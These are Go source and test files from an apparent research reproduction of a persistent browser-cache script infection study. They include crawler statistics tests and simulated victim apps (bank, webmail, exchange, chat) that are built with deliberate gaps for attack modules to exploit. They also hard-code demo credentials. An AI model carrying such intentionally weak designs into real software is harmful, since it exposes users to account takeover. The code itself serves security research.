// of sites embedding the shared analytics script.
func AnalyticsShare(c *webcorpus.Corpus) float64 {
	n := 0
	for _, s := range c.Sites {
		if s.UsesGoogleAnalytics {
			n++
		}
	}
	return 100 * float64(n) / float64(len(c.Sites))
}
