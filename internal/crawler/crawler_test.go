package crawler

import (
	"math"
	"testing"

	"masterparasite/internal/webcorpus"
)

// testCorpus is used for the (expensive) daily-crawl tests; 3000 sites
// keeps the statistics tight enough (±2.5%) while staying fast.
func testCorpus() *webcorpus.Corpus {
	return webcorpus.Generate(webcorpus.Params{Sites: 3000, Seed: 11})
}

// headerCorpus is larger: the survey crawls each site once, so a bigger
// sample sharpens the small CSP population's statistics.
func headerCorpus() *webcorpus.Corpus {
	return webcorpus.Generate(webcorpus.Params{Sites: 12000, Seed: 13})
}

func within(t *testing.T, name string, got, want, tol float64) {
	t.Helper()
	if math.Abs(got-want) > tol {
		t.Errorf("%s = %.2f, want %.2f ± %.1f", name, got, want, tol)
	}
}

func TestPersistencyCurveShape(t *testing.T) {
	c := testCorpus()
	res := CrawlPersistency(c, 100)
	if len(res.Points) != 101 {
		t.Fatalf("points = %d", len(res.Points))
	}
	p5, p100 := res.At(5), res.At(100)

	// Fig. 3 anchors: ≈87.5% name-persistent at 5 days, ≈75.3% at 100.
	within(t, "persistent(name) day 5", p5.PersistentName, 87.5, 2.5)
	within(t, "persistent(name) day 100", p100.PersistentName, 75.3, 2.5)

	// The hash curve sits at or below the name curve everywhere: a file
	// cannot be content-stable under a changed name (our generator ties
	// content generation to renames).
	for _, p := range res.Points {
		if p.PersistentHash > p.PersistentName+1e-9 {
			t.Fatalf("day %d: hash %.2f above name %.2f", p.Day, p.PersistentHash, p.PersistentName)
		}
		if p.PersistentName > p.AnyJS+1e-9 {
			t.Fatalf("day %d: name %.2f above anyJS %.2f", p.Day, p.PersistentName, p.AnyJS)
		}
	}

	// Monotone (non-increasing) persistence.
	for i := 1; i < len(res.Points); i++ {
		if res.Points[i].PersistentName > res.Points[i-1].PersistentName+1e-9 {
			t.Fatalf("persistence increased at day %d", res.Points[i].Day)
		}
	}

	// AnyJS stays roughly flat near 88-89%.
	within(t, "any .js day 100", p100.AnyJS, 88.5, 2.5)
}

func TestPersistencyDeterministic(t *testing.T) {
	a := CrawlPersistency(webcorpus.Generate(webcorpus.Params{Sites: 200, Seed: 5}), 10)
	b := CrawlPersistency(webcorpus.Generate(webcorpus.Params{Sites: 200, Seed: 5}), 10)
	for i := range a.Points {
		if a.Points[i] != b.Points[i] {
			t.Fatalf("day %d differs between identical corpora", i)
		}
	}
}

func TestSelectTargetsStableNames(t *testing.T) {
	c := webcorpus.Generate(webcorpus.Params{Sites: 300, Seed: 3})
	targets := SelectTargets(c, 30)
	if len(targets) == 0 {
		t.Fatal("no targets selected")
	}
	// Every selected target must really be name-stable over the window.
	for host, names := range targets {
		var site *webcorpus.Site
		for _, s := range c.Sites {
			if s.Host == host {
				site = s
				break
			}
		}
		if site == nil {
			t.Fatalf("target host %s not in corpus", host)
		}
		day30 := make(map[string]bool)
		for _, o := range site.ObjectsOn(30) {
			day30[o.Name] = true
		}
		for _, n := range names {
			if !day30[n] {
				t.Fatalf("selected target %s absent on day 30", n)
			}
		}
	}
}

func TestHeaderSurveyMarginals(t *testing.T) {
	s := SurveyHeaders(headerCorpus())

	// §V: 21% no HTTPS, ~7% vulnerable SSL.
	within(t, "no-HTTPS share", s.NoHTTPSShare, 21, 2.5)
	within(t, "vulnerable SSL share", s.VulnSSLShare, 7, 1.5)

	// §V: 67.92% of responders without HSTS; preload rare; ~96.6%
	// SSL-strippable.
	within(t, "no-HSTS share", s.NoHSTSShare, 67.92, 3.0)
	within(t, "strippable share", s.StrippableShare, 96.59, 1.5)
	if s.PreloadCount == 0 {
		t.Error("no preloaded sites at all")
	}

	// Fig. 5: ~4.7% supply CSP, ~15.3% of those deprecated.
	within(t, "CSP header share", s.CSPHeaderShare, 4.7, 1.2)
	within(t, "deprecated CSP share", s.DeprecatedShare, 15.3, 7.0)
	if s.ConnectSrcUses == 0 {
		t.Error("no connect-src usage observed")
	}
	if s.ConnectSrcStar == 0 {
		t.Error("no connect-src wildcard observed")
	}
	if s.ConnectSrcStar >= s.ConnectSrcUses {
		t.Error("wildcards exceed total connect-src uses")
	}
	if s.VersionCounts["CSP"] == 0 {
		t.Error("no modern CSP observed")
	}

	// Responders ≈ 89.5% (13419/15000 in the paper).
	within(t, "responder share", 100*float64(s.Responders)/float64(s.Sites), 89.46, 2.0)
}

func TestAnalyticsShare(t *testing.T) {
	got := AnalyticsShare(testCorpus())
	within(t, "analytics share", got, 63, 3.0)
}

func TestCorpusDeterminism(t *testing.T) {
	a := webcorpus.Generate(webcorpus.Params{Sites: 50, Seed: 9})
	b := webcorpus.Generate(webcorpus.Params{Sites: 50, Seed: 9})
	for i := range a.Sites {
		ao, bo := a.Sites[i].ObjectsOn(37), b.Sites[i].ObjectsOn(37)
		if len(ao) != len(bo) {
			t.Fatal("object count differs")
		}
		for j := range ao {
			if ao[j] != bo[j] {
				t.Fatalf("site %d object %d differs", i, j)
			}
		}
	}
}

func TestRenamedObjectChangesNameAndHash(t *testing.T) {
	c := webcorpus.Generate(webcorpus.Params{Sites: 100, Seed: 2})
	foundRename := false
	for _, s := range c.Sites {
		d0 := s.ObjectsOn(0)
		d99 := s.ObjectsOn(99)
		names99 := make(map[string]string)
		for _, o := range d99 {
			names99[o.Name] = o.Hash
		}
		for i, o := range d0 {
			if h, ok := names99[o.Name]; ok && h == o.Hash {
				continue
			}
			_ = i
			foundRename = true
		}
	}
	if !foundRename {
		t.Fatal("no churn in 100 sites over 99 days — generator broken")
	}
}

func TestNonRespondingSiteCrawl(t *testing.T) {
	c := webcorpus.Generate(webcorpus.Params{Sites: 400, Seed: 8})
	nonResponders := 0
	for _, s := range c.Sites {
		if !s.Responds {
			nonResponders++
			if s.RenderPage(0).StatusCode == 200 {
				t.Fatal("non-responder served a page")
			}
		}
	}
	if nonResponders == 0 {
		t.Fatal("every site responds; responder modelling missing")
	}
}
