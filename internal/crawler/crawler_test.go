package crawler

import (
	"math"
	"reflect"
	"testing"

	"masterparasite/internal/runner"
	"masterparasite/internal/webcorpus"
)

// testRunner fans crawl jobs out over all available cores; every
// statistic is deterministic regardless of the worker count.
func testRunner() *runner.Runner { return runner.New(0) }

// testCorpus is used for the (expensive) daily-crawl tests. The full
// run uses 3000 sites, keeping the statistics tight (±2.5%); -short
// shrinks the population so the race-detector CI run stays fast, at
// the cost of wider (but still deterministic, fixed-seed) tolerances.
func testCorpus() *webcorpus.Corpus {
	sites := 3000
	if testing.Short() {
		sites = 800
	}
	return webcorpus.Generate(webcorpus.Params{Sites: sites, Seed: 11})
}

// headerCorpus is larger: the survey crawls each site once, so a bigger
// sample sharpens the small CSP population's statistics.
func headerCorpus() *webcorpus.Corpus {
	sites := 12000
	if testing.Short() {
		sites = 4000
	}
	return webcorpus.Generate(webcorpus.Params{Sites: sites, Seed: 13})
}

// tol widens a full-run tolerance in -short mode, where the smaller
// population has more sampling noise around the paper's anchors.
func tol(full float64) float64 {
	if testing.Short() {
		return 2 * full
	}
	return full
}

func within(t *testing.T, name string, got, want, tolerance float64) {
	t.Helper()
	if math.Abs(got-want) > tolerance {
		t.Errorf("%s = %.2f, want %.2f ± %.1f", name, got, want, tolerance)
	}
}

func TestPersistencyCurveShape(t *testing.T) {
	t.Parallel()
	days := 100
	if testing.Short() {
		days = 40
	}
	c := testCorpus()
	res := CrawlPersistency(testRunner(), c, days)
	if len(res.Points) != days+1 {
		t.Fatalf("points = %d", len(res.Points))
	}

	// Fig. 3 anchors: ≈87.5% name-persistent at 5 days, ≈75.3% at 100.
	within(t, "persistent(name) day 5", res.At(5).PersistentName, 87.5, tol(2.5))
	if !testing.Short() {
		within(t, "persistent(name) day 100", res.At(100).PersistentName, 75.3, 2.5)
	}

	// The hash curve sits at or below the name curve everywhere: a file
	// cannot be content-stable under a changed name (our generator ties
	// content generation to renames).
	for _, p := range res.Points {
		if p.PersistentHash > p.PersistentName+1e-9 {
			t.Fatalf("day %d: hash %.2f above name %.2f", p.Day, p.PersistentHash, p.PersistentName)
		}
		if p.PersistentName > p.AnyJS+1e-9 {
			t.Fatalf("day %d: name %.2f above anyJS %.2f", p.Day, p.PersistentName, p.AnyJS)
		}
	}

	// Monotone (non-increasing) persistence.
	for i := 1; i < len(res.Points); i++ {
		if res.Points[i].PersistentName > res.Points[i-1].PersistentName+1e-9 {
			t.Fatalf("persistence increased at day %d", res.Points[i].Day)
		}
	}

	// AnyJS stays roughly flat near 88-89%.
	within(t, "any .js last day", res.At(days).AnyJS, 88.5, tol(2.5))
}

func TestPersistencyDeterministic(t *testing.T) {
	t.Parallel()
	a := CrawlPersistency(testRunner(), webcorpus.Generate(webcorpus.Params{Sites: 200, Seed: 5}), 10)
	b := CrawlPersistency(testRunner(), webcorpus.Generate(webcorpus.Params{Sites: 200, Seed: 5}), 10)
	for i := range a.Points {
		if a.Points[i] != b.Points[i] {
			t.Fatalf("day %d differs between identical corpora", i)
		}
	}
}

// TestParallelCrawlMatchesSequential pins the fleet-runner guarantee at
// the crawler level: any worker count produces bit-identical curves and
// survey tallies.
func TestParallelCrawlMatchesSequential(t *testing.T) {
	t.Parallel()
	c := webcorpus.Generate(webcorpus.Params{Sites: 300, Seed: 7})
	seqCrawl := CrawlPersistency(runner.New(1), c, 15)
	seqSurvey := SurveyHeaders(runner.New(1), c)
	for _, workers := range []int{4, 8} {
		parCrawl := CrawlPersistency(runner.New(workers), c, 15)
		if !reflect.DeepEqual(seqCrawl, parCrawl) {
			t.Fatalf("workers=%d: persistency curves differ from sequential", workers)
		}
		parSurvey := SurveyHeaders(runner.New(workers), c)
		if !reflect.DeepEqual(seqSurvey, parSurvey) {
			t.Fatalf("workers=%d: header survey differs from sequential", workers)
		}
	}
}

// TestCrawlPersistencyAllNonResponders pins the zero-crawl guard: a
// corpus where every site 404s has no denominator, and the crawl must
// report an empty result instead of NaN percentages.
func TestCrawlPersistencyAllNonResponders(t *testing.T) {
	t.Parallel()
	c := &webcorpus.Corpus{Sites: []*webcorpus.Site{
		{Rank: 1, Host: "dead1.example", Responds: false},
		{Rank: 2, Host: "dead2.example", Responds: false},
	}}
	res := CrawlPersistency(testRunner(), c, 10)
	if res.Sites != 0 {
		t.Fatalf("Sites = %d, want 0", res.Sites)
	}
	if len(res.Points) != 0 {
		t.Fatalf("Points = %d, want none", len(res.Points))
	}
	for _, day := range []int{0, 5, 100} {
		p := res.At(day)
		if p != (PersistencyPoint{}) {
			t.Fatalf("At(%d) = %+v, want zero point", day, p)
		}
		if math.IsNaN(p.AnyJS) || math.IsNaN(p.PersistentName) || math.IsNaN(p.PersistentHash) {
			t.Fatalf("At(%d) produced NaN: %+v", day, p)
		}
	}
}

// TestPersistencyResultAt covers the binary-search lookup: exact days,
// days between points, and days before the first point.
func TestPersistencyResultAt(t *testing.T) {
	t.Parallel()
	r := &PersistencyResult{Points: []PersistencyPoint{
		{Day: 0, AnyJS: 10},
		{Day: 5, AnyJS: 50},
		{Day: 20, AnyJS: 20},
	}}
	cases := []struct {
		day  int
		want int // expected Day of the returned point
	}{
		{day: 0, want: 0},   // exact first
		{day: 5, want: 5},   // exact middle
		{day: 20, want: 20}, // exact last
		{day: 3, want: 0},   // between first and second
		{day: 19, want: 5},  // between second and third
		{day: 99, want: 20}, // past the end
		{day: -4, want: 0},  // before the first point
	}
	for _, c := range cases {
		if got := r.At(c.day); got.Day != c.want {
			t.Errorf("At(%d).Day = %d, want %d", c.day, got.Day, c.want)
		}
	}

	// Matches the historical linear scan on the real curve.
	res := CrawlPersistency(testRunner(), webcorpus.Generate(webcorpus.Params{Sites: 100, Seed: 5}), 12)
	for day := -1; day <= 14; day++ {
		want := res.Points[0]
		for _, p := range res.Points {
			if p.Day <= day {
				want = p
			}
		}
		if got := res.At(day); got != want {
			t.Fatalf("At(%d) = %+v, want %+v", day, got, want)
		}
	}
}

// TestSelectTargetsFromSharedBaseline pins the baseline-reuse path: the
// selection computed against a shared day-0 baseline matches the
// self-contained SelectTargets at any worker count.
func TestSelectTargetsFromSharedBaseline(t *testing.T) {
	t.Parallel()
	c := webcorpus.Generate(webcorpus.Params{Sites: 300, Seed: 3})
	want := SelectTargets(c, 30)
	for _, workers := range []int{1, 4} {
		r := runner.New(workers)
		got := SelectTargetsFrom(r, CrawlBaseline(r, c), 30)
		if !reflect.DeepEqual(want, got) {
			t.Fatalf("workers=%d: SelectTargetsFrom differs from SelectTargets", workers)
		}
	}
}

func TestSelectTargetsStableNames(t *testing.T) {
	t.Parallel()
	c := webcorpus.Generate(webcorpus.Params{Sites: 300, Seed: 3})
	targets := SelectTargets(c, 30)
	if len(targets) == 0 {
		t.Fatal("no targets selected")
	}
	// Every selected target must really be name-stable over the window.
	for host, names := range targets {
		var site *webcorpus.Site
		for _, s := range c.Sites {
			if s.Host == host {
				site = s
				break
			}
		}
		if site == nil {
			t.Fatalf("target host %s not in corpus", host)
		}
		day30 := make(map[string]bool)
		for _, o := range site.ObjectsOn(30) {
			day30[o.Name] = true
		}
		for _, n := range names {
			if !day30[n] {
				t.Fatalf("selected target %s absent on day 30", n)
			}
		}
	}
}

func TestHeaderSurveyMarginals(t *testing.T) {
	t.Parallel()
	s := SurveyHeaders(testRunner(), headerCorpus())

	// §V: 21% no HTTPS, ~7% vulnerable SSL.
	within(t, "no-HTTPS share", s.NoHTTPSShare, 21, tol(2.5))
	within(t, "vulnerable SSL share", s.VulnSSLShare, 7, tol(1.5))

	// §V: 67.92% of responders without HSTS; preload rare; ~96.6%
	// SSL-strippable.
	within(t, "no-HSTS share", s.NoHSTSShare, 67.92, tol(3.0))
	within(t, "strippable share", s.StrippableShare, 96.59, tol(1.5))
	if s.PreloadCount == 0 {
		t.Error("no preloaded sites at all")
	}

	// Fig. 5: ~4.7% supply CSP, ~15.3% of those deprecated.
	within(t, "CSP header share", s.CSPHeaderShare, 4.7, tol(1.2))
	within(t, "deprecated CSP share", s.DeprecatedShare, 15.3, tol(7.0))
	if s.ConnectSrcUses == 0 {
		t.Error("no connect-src usage observed")
	}
	if s.ConnectSrcStar == 0 {
		t.Error("no connect-src wildcard observed")
	}
	if s.ConnectSrcStar >= s.ConnectSrcUses {
		t.Error("wildcards exceed total connect-src uses")
	}
	if s.VersionCounts["CSP"] == 0 {
		t.Error("no modern CSP observed")
	}

	// Responders ≈ 89.5% (13419/15000 in the paper).
	within(t, "responder share", 100*float64(s.Responders)/float64(s.Sites), 89.46, tol(2.0))
}

func TestAnalyticsShare(t *testing.T) {
	t.Parallel()
	got := AnalyticsShare(testCorpus())
	within(t, "analytics share", got, 63, tol(3.0))
}

func TestCorpusDeterminism(t *testing.T) {
	t.Parallel()
	a := webcorpus.Generate(webcorpus.Params{Sites: 50, Seed: 9})
	b := webcorpus.Generate(webcorpus.Params{Sites: 50, Seed: 9})
	for i := range a.Sites {
		ao, bo := a.Sites[i].ObjectsOn(37), b.Sites[i].ObjectsOn(37)
		if len(ao) != len(bo) {
			t.Fatal("object count differs")
		}
		for j := range ao {
			if ao[j] != bo[j] {
				t.Fatalf("site %d object %d differs", i, j)
			}
		}
	}
}

func TestRenamedObjectChangesNameAndHash(t *testing.T) {
	t.Parallel()
	c := webcorpus.Generate(webcorpus.Params{Sites: 100, Seed: 2})
	foundRename := false
	for _, s := range c.Sites {
		d0 := s.ObjectsOn(0)
		d99 := s.ObjectsOn(99)
		names99 := make(map[string]string)
		for _, o := range d99 {
			names99[o.Name] = o.Hash
		}
		for i, o := range d0 {
			if h, ok := names99[o.Name]; ok && h == o.Hash {
				continue
			}
			_ = i
			foundRename = true
		}
	}
	if !foundRename {
		t.Fatal("no churn in 100 sites over 99 days — generator broken")
	}
}

func TestNonRespondingSiteCrawl(t *testing.T) {
	t.Parallel()
	c := webcorpus.Generate(webcorpus.Params{Sites: 400, Seed: 8})
	nonResponders := 0
	for _, s := range c.Sites {
		if !s.Responds {
			nonResponders++
			if s.RenderPage(0).StatusCode == 200 {
				t.Fatal("non-responder served a page")
			}
		}
	}
	if nonResponders == 0 {
		t.Fatal("every site responds; responder modelling missing")
	}
}
