package apps

import (
	"strings"
	"testing"

	"masterparasite/internal/browser"
	"masterparasite/internal/dom"
	"masterparasite/internal/httpsim"
)

func post(h httpsim.HandlerFunc, host, path, cookie string, form map[string]string) *httpsim.Response {
	req := httpsim.NewRequest("POST", host, path)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if cookie != "" {
		req.Header.Set("Cookie", cookie)
	}
	req.Body = []byte(browser.EncodeForm(form))
	return h(req)
}

func get(h httpsim.HandlerFunc, host, path, cookie string) *httpsim.Response {
	req := httpsim.NewRequest("GET", host, path)
	if cookie != "" {
		req.Header.Set("Cookie", cookie)
	}
	return h(req)
}

func sidFrom(resp *httpsim.Response) string {
	sc := resp.Header.Get("Set-Cookie")
	return strings.SplitN(sc, ";", 2)[0]
}

func TestBankLoginFlow(t *testing.T) {
	b := NewBank("bank.example")
	h := b.Handler()
	if resp := get(h, b.Host, "/", ""); !strings.Contains(string(resp.Body), `id="login"`) {
		t.Fatal("anonymous front page has no login form")
	}
	bad := post(h, b.Host, "/login", "", map[string]string{"user": "alice", "pass": "wrong"})
	if !strings.Contains(string(bad.Body), "bad credentials") {
		t.Fatal("bad login accepted")
	}
	good := post(h, b.Host, "/login", "", map[string]string{"user": "alice", "pass": "hunter2"})
	sid := sidFrom(good)
	if sid == "" {
		t.Fatal("no session cookie")
	}
	acct := get(h, b.Host, "/", sid)
	if !strings.Contains(string(acct.Body), "10000 EUR") {
		t.Fatal("account page missing balance")
	}
}

func TestBankTransferRequiresOTP(t *testing.T) {
	b := NewBank("bank.example")
	h := b.Handler()
	sid := sidFrom(post(h, b.Host, "/login", "", map[string]string{"user": "alice", "pass": "hunter2"}))

	otpPage := post(h, b.Host, "/transfer", sid, map[string]string{"iban": "DE22 X", "amount": "100"})
	if !strings.Contains(string(otpPage.Body), `id="otp"`) {
		t.Fatal("no OTP challenge")
	}
	if len(b.Transfers) != 0 {
		t.Fatal("transfer committed before OTP")
	}
	bad := post(h, b.Host, "/otp", sid, map[string]string{"code": "000000"})
	if !strings.Contains(string(bad.Body), "bad OTP") || len(b.Transfers) != 0 {
		t.Fatal("wrong OTP accepted")
	}
	good := post(h, b.Host, "/otp", sid, map[string]string{"code": "123456"})
	if !strings.Contains(string(good.Body), "transfer executed") {
		t.Fatalf("otp response: %s", good.Body)
	}
	if len(b.Transfers) != 1 || b.Transfers[0].Amount != 100 || !b.Transfers[0].Authorized {
		t.Fatalf("transfers = %+v", b.Transfers)
	}
	if b.Accounts["alice"].Balance != 9900 {
		t.Fatalf("balance = %d", b.Accounts["alice"].Balance)
	}
}

func TestBankRejectsUnauthenticated(t *testing.T) {
	b := NewBank("bank.example")
	h := b.Handler()
	if resp := post(h, b.Host, "/transfer", "", map[string]string{"iban": "X", "amount": "1"}); resp.StatusCode != 403 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	if resp := post(h, b.Host, "/otp", "sid=forged", map[string]string{"code": "123456"}); resp.StatusCode != 403 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
}

func TestBankConfirmShowsPending(t *testing.T) {
	b := NewBank("bank.example")
	h := b.Handler()
	sid := sidFrom(post(h, b.Host, "/login", "", map[string]string{"user": "alice", "pass": "hunter2"}))
	post(h, b.Host, "/transfer", sid, map[string]string{"iban": "DE33 Y", "amount": "77"})
	confirm := get(h, b.Host, "/confirm", sid)
	if !strings.Contains(string(confirm.Body), "77 EUR to DE33 Y") {
		t.Fatalf("confirm page: %s", confirm.Body)
	}
}

func TestWebmailInboxAndSend(t *testing.T) {
	w := NewWebmail("mail.example")
	h := w.Handler()
	sid := sidFrom(post(h, w.Host, "/login", "", map[string]string{"user": "alice", "pass": "hunter2"}))
	inbox := get(h, w.Host, "/", sid)
	doc := dom.ParseHTML("mail.example/", inbox.Body)
	emails := doc.Root.Find(func(e *dom.Element) bool { return e.Attr("class") == "email" })
	if len(emails) != 2 {
		t.Fatalf("emails rendered = %d", len(emails))
	}
	contacts := doc.Root.Find(func(e *dom.Element) bool { return e.Attr("class") == "contact" })
	if len(contacts) != 3 {
		t.Fatalf("contacts = %d", len(contacts))
	}
	post(h, w.Host, "/send", sid, map[string]string{"to": "bob@corp.example", "subject": "hi", "body": "yo"})
	if len(w.Sent) != 1 || w.Sent[0].To != "bob@corp.example" {
		t.Fatalf("sent = %+v", w.Sent)
	}
}

func TestSocialPost(t *testing.T) {
	s := NewSocial("social.example")
	h := s.Handler()
	sid := sidFrom(post(h, s.Host, "/login", "", map[string]string{"user": "alice", "pass": "hunter2"}))
	feed := get(h, s.Host, "/", sid)
	if !strings.Contains(string(feed.Body), `class="friend"`) {
		t.Fatal("no friends rendered")
	}
	post(h, s.Host, "/post", sid, map[string]string{"text": "hello world"})
	if len(s.Posts) != 1 || s.Posts[0] != "hello world" {
		t.Fatalf("posts = %v", s.Posts)
	}
}

func TestExchangeWithdraw(t *testing.T) {
	e := NewExchange("exchange.example")
	h := e.Handler()
	sid := sidFrom(post(h, e.Host, "/login", "", map[string]string{"user": "alice", "pass": "hunter2"}))
	if resp := post(h, e.Host, "/withdraw", sid, map[string]string{"address": "bc1evil", "amount": "99999999"}); resp.StatusCode != 400 {
		t.Fatal("over-balance withdrawal accepted")
	}
	post(h, e.Host, "/withdraw", sid, map[string]string{"address": "bc1good", "amount": "1000"})
	if len(e.Withdrawals) != 1 || e.Balances["alice"] != 4_999_000 {
		t.Fatalf("withdrawals = %+v balance = %d", e.Withdrawals, e.Balances["alice"])
	}
}

func TestChatHistoryAndSend(t *testing.T) {
	c := NewChat("chat.example")
	h := c.Handler()
	page := get(h, c.Host, "/", "")
	doc := dom.ParseHTML("chat.example/", page.Body)
	msgs := doc.Root.Find(func(e *dom.Element) bool { return e.Attr("class") == "msg" })
	if len(msgs) != 2 {
		t.Fatalf("history msgs = %d", len(msgs))
	}
	post(h, c.Host, "/send", "", map[string]string{"to": "bob", "text": "hi"})
	if len(c.Sent) != 1 || c.Sent[0].To != "bob" {
		t.Fatalf("sent = %+v", c.Sent)
	}
	if len(c.History) != 3 {
		t.Fatalf("history = %d", len(c.History))
	}
}

func TestAppScriptsServedCacheable(t *testing.T) {
	for name, app := range map[string]httpsim.HandlerFunc{
		"bank":     NewBank("b").Handler(),
		"mail":     NewWebmail("m").Handler(),
		"social":   NewSocial("s").Handler(),
		"exchange": NewExchange("e").Handler(),
		"chat":     NewChat("c").Handler(),
	} {
		path := ScriptPaths()[name]
		resp := app(httpsim.NewRequest("GET", "x", path))
		if resp.StatusCode != 200 {
			t.Errorf("%s script status = %d", name, resp.StatusCode)
		}
		if !strings.Contains(resp.Header.Get("Cache-Control"), "max-age") {
			t.Errorf("%s script not cacheable — it must be a persistent infection target", name)
		}
	}
}

func TestFormCodecRoundTrip(t *testing.T) {
	in := map[string]string{"user": "a&b", "pass": "x=y"}
	out := browser.DecodeForm([]byte(browser.EncodeForm(in)))
	if out["user"] != "a&b" {
		t.Fatalf("out = %v", out)
	}
}

func TestUnknownPaths404(t *testing.T) {
	b := NewBank("bank.example")
	if resp := get(b.Handler(), b.Host, "/admin", ""); resp.StatusCode != 404 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
}
