// Package apps implements the victim applications of Table V: online
// banking with OTP two-factor authentication, webmail, a social network,
// a crypto exchange and a chat application. Each app is an httpsim vhost
// plus a client-side wiring helper that connects its DOM forms to the
// server — the substrate the attack modules (internal/attacks) exploit.
package apps

import (
	"fmt"
	"strconv"
	"strings"

	"masterparasite/internal/browser"
	"masterparasite/internal/httpsim"
)

// sessions is the shared session-cookie store.
type sessions struct {
	byID    map[string]string // sid → user
	counter int
	prefix  string
}

func newSessions(prefix string) *sessions {
	return &sessions{byID: make(map[string]string), prefix: prefix}
}

func (s *sessions) create(user string) string {
	s.counter++
	sid := fmt.Sprintf("%s-%06d", s.prefix, s.counter)
	s.byID[sid] = user
	return sid
}

func (s *sessions) user(req *httpsim.Request) (string, bool) {
	for _, kv := range strings.Split(req.Header.Get("Cookie"), ";") {
		k, v, ok := strings.Cut(strings.TrimSpace(kv), "=")
		if ok && k == "sid" {
			u, found := s.byID[v]
			return u, found
		}
	}
	return "", false
}

func htmlResponse(body string, extraHdr map[string]string) *httpsim.Response {
	resp := httpsim.NewResponse(200, []byte(body))
	resp.Header.Set("Content-Type", "text/html")
	resp.Header.Set("Cache-Control", "no-store")
	for k, v := range extraHdr {
		resp.Header.Set(k, v)
	}
	return resp
}

func loginPage(appScript, title string) string {
	return fmt.Sprintf(`<html><head><title>%s</title><script src="%s"></script></head>
<body><form id="login" action="/login">
<input name="user" value=""><input name="pass" type="password" value="">
</form></body></html>`, title, appScript)
}

// Account is a bank (or exchange) account.
type Account struct {
	User     string
	Password string
	OTP      string // the Google-Authenticator-style one-time secret
	Balance  int
	IBAN     string
}

// Transfer is a committed or pending bank transfer.
type Transfer struct {
	From       string
	ToIBAN     string
	Amount     int
	Authorized bool
}

// Bank is the online-banking application. Its transfer flow is two-step:
// submit transfer → confirm with OTP. There is NO out-of-band transaction
// detail confirmation, which is exactly the requirement column of
// Table V's "Circumvent Two Factor Authentication" row.
type Bank struct {
	Host     string
	Accounts map[string]*Account
	sessions *sessions

	pending   map[string]Transfer // session → pending transfer
	Transfers []Transfer

	// SecurityHeaders lets the experiments toggle CSP/HSTS hardening.
	SecurityHeaders map[string]string
}

// NewBank creates the bank with a demo account (alice / hunter2, OTP
// 123456, balance 10_000).
func NewBank(host string) *Bank {
	return &Bank{
		Host: host,
		Accounts: map[string]*Account{
			"alice": {User: "alice", Password: "hunter2", OTP: "123456", Balance: 10000, IBAN: "DE11 ALICE"},
		},
		sessions:        newSessions("bank"),
		pending:         make(map[string]Transfer),
		SecurityHeaders: map[string]string{},
	}
}

// ScriptPath is the bank's persistent script — the infection target.
const bankScript = "/js/bank.js"

// Handler serves the vhost.
func (b *Bank) Handler() httpsim.HandlerFunc {
	return func(req *httpsim.Request) *httpsim.Response {
		switch {
		case req.PathOnly() == bankScript:
			resp := httpsim.NewResponse(200, []byte("function bankApp(){/*genuine*/}"))
			resp.Header.Set("Content-Type", "application/javascript")
			resp.Header.Set("Cache-Control", "max-age=86400")
			return resp
		case req.Method == "GET" && req.PathOnly() == "/":
			if user, ok := b.sessions.user(req); ok {
				return htmlResponse(b.accountPage(user), b.SecurityHeaders)
			}
			return htmlResponse(loginPage(bankScript, "MyBank"), b.SecurityHeaders)
		case req.Method == "POST" && req.PathOnly() == "/login":
			form := browser.DecodeForm(req.Body)
			acct, ok := b.Accounts[form["user"]]
			if !ok || acct.Password != form["pass"] {
				return htmlResponse(`<html><body><div id="error">bad credentials</div></body></html>`, b.SecurityHeaders)
			}
			sid := b.sessions.create(acct.User)
			resp := htmlResponse(`<html><body><div id="ok">welcome</div></body></html>`, b.SecurityHeaders)
			resp.Header.Set("Set-Cookie", "sid="+sid)
			return resp
		case req.Method == "POST" && req.PathOnly() == "/transfer":
			user, ok := b.sessions.user(req)
			if !ok {
				return httpsim.NewResponse(403, nil)
			}
			form := browser.DecodeForm(req.Body)
			amount, err := strconv.Atoi(form["amount"])
			if err != nil || amount <= 0 {
				return httpsim.NewResponse(400, []byte("bad amount"))
			}
			sid := b.sidOf(req)
			b.pending[sid] = Transfer{From: user, ToIBAN: form["iban"], Amount: amount}
			return htmlResponse(b.otpPage(b.pending[sid]), b.SecurityHeaders)
		case req.Method == "GET" && req.PathOnly() == "/confirm":
			sid := b.sidOf(req)
			pt, ok := b.pending[sid]
			if !ok {
				return httpsim.NewResponse(404, []byte("nothing pending"))
			}
			return htmlResponse(b.otpPage(pt), b.SecurityHeaders)
		case req.Method == "POST" && req.PathOnly() == "/otp":
			user, ok := b.sessions.user(req)
			if !ok {
				return httpsim.NewResponse(403, nil)
			}
			sid := b.sidOf(req)
			pt, ok := b.pending[sid]
			if !ok {
				return httpsim.NewResponse(400, []byte("nothing pending"))
			}
			form := browser.DecodeForm(req.Body)
			acct := b.Accounts[user]
			if form["code"] != acct.OTP {
				return htmlResponse(`<html><body><div id="error">bad OTP</div></body></html>`, b.SecurityHeaders)
			}
			pt.Authorized = true
			b.Transfers = append(b.Transfers, pt)
			acct.Balance -= pt.Amount
			delete(b.pending, sid)
			return htmlResponse(`<html><body><div id="ok">transfer executed</div></body></html>`, b.SecurityHeaders)
		default:
			return httpsim.NewResponse(404, nil)
		}
	}
}

func (b *Bank) sidOf(req *httpsim.Request) string {
	for _, kv := range strings.Split(req.Header.Get("Cookie"), ";") {
		k, v, ok := strings.Cut(strings.TrimSpace(kv), "=")
		if ok && k == "sid" {
			return v
		}
	}
	return ""
}

func (b *Bank) accountPage(user string) string {
	acct := b.Accounts[user]
	return fmt.Sprintf(`<html><head><script src="%s"></script></head><body>
<div id="balance">%d EUR</div><div id="iban">%s</div>
<form id="transfer" action="/transfer">
<input name="iban" value=""><input name="amount" value="">
</form></body></html>`, bankScript, acct.Balance, acct.IBAN)
}

func (b *Bank) otpPage(pt Transfer) string {
	return fmt.Sprintf(`<html><head><script src="%s"></script></head><body>
<div id="pending-details">Transfer %d EUR to %s</div>
<form id="otp" action="/otp"><input name="code" value=""></form>
</body></html>`, bankScript, pt.Amount, pt.ToIBAN)
}

// Wire connects the page's forms to the server via background POSTs, as
// the app's genuine JavaScript would. onResult receives each response.
func (b *Bank) Wire(page *browser.Page, onResult func(*httpsim.Response, error)) {
	if onResult == nil {
		onResult = func(*httpsim.Response, error) {}
	}
	page.Doc.OnSubmit("login", func(values map[string]string) {
		page.Post("/login", values, onResult)
	})
